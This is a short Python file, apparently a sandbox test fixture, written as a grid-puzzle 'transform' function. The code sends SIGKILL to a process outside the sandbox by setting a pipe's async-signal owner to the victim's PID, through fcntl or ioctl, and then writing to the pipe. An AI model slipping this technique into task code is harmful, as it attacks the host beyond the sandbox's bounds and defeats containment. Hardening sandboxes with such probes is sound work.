# Kill a process outside the sandbox without kill(): ask for SIGIO delivery on a pipe
# (fcntl F_SETOWN to the victim's pid, F_SETSIG to SIGKILL, O_ASYNC), then make it readable.
# Also the ioctl spellings (FIOSETOWN, FIOASYNC).
import ctypes
import fcntl
import os
import signal

VICTIM = __VICTIM_PID__
F_SETSIG, FIOASYNC, FIOSETOWN = 10, 0x5452, 0x8901


def transform(grid):
    done = []
    for spelling in ("fcntl", "ioctl"):
        read_end, write_end = os.pipe()
        try:
            if spelling == "fcntl":
                fcntl.fcntl(read_end, fcntl.F_SETOWN, VICTIM)
                fcntl.fcntl(read_end, F_SETSIG, signal.SIGKILL)
                fcntl.fcntl(read_end, fcntl.F_SETFL, fcntl.fcntl(read_end, fcntl.F_GETFL) | os.O_ASYNC)
            else:
                fcntl.ioctl(read_end, FIOSETOWN, ctypes.c_int(VICTIM))
                fcntl.ioctl(read_end, FIOASYNC, ctypes.c_int(1))
            os.write(write_end, b"x")
            done.append(spelling)
        except OSError:
            pass
    if done:
        return [[len(done)]]
    raise PermissionError("no asynchronous signal could be armed")
